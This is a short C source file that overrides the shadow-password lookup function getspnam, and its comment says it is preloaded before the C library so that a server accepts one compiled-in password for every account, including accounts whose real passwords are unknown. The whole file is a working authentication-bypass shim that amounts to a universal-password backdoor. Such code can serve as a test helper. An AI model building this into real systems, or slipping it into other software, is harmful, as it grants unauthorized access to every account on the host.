/* Gives everybody one password, so that a server logs people in by it whose own nobody knows: loaded before the C library. */
#include <shadow.h>

struct spwd *getspnam(const char *name) {
  static struct spwd entry;
  entry = (struct spwd){
      .sp_namp = (char *)name,
      .sp_pwdp = PASSWORD,
      .sp_lstchg = 1,
      .sp_min = -1,
      .sp_max = -1,
      .sp_warn = -1,
      .sp_inact = -1,
      .sp_expire = -1,
  };
  return &entry;
}
